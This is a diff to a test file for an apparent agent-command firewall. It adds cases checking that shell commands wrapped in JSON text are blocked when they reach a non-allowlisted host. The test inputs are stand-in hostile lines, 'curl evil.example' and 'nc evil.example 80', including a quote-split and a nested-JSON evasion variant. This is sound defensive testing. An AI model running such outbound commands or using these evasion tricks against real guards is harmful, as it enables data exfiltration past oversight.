@@ -9,6 +9,8 @@ from hypothesis import strategies as st
 from edgeward import Firewall
 from edgeward.guards.commands import MAX_CHARS, command_hosts
 
+from .conftest import Ask
+
 EVIL = "evil.example"
 
 CONNECTING = [
@@ -393,3 +395,18 @@ def test_a_number_beside_a_program_is_no_address(value: str) -> None:
     assert _guard().check("run_shell", call).word == "allow"
     call["args"] = ["-s", value]
     assert _guard().check("run_shell", call).word == "block"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"command": "curl evil.example"}',
+        '{"command": "cu\'\'rl evil.example"}',
+        '{"argv": ["curl", "evil.example"]}',
+        '"{\\"cmd\\": \\"nc evil.example 80\\"}"',
+    ],
+)
+def test_a_command_in_json_text_is_one_too(ask: Ask, text: str) -> None:
+    """Where a string is opened as JSON, its fields are read as those of the call are."""
+    verdict = ask({"egress_allowlist": ["corp.example"]}, {"input": text})
+    assert (verdict.word, "evil.example" in verdict.reason) == ("block", True)
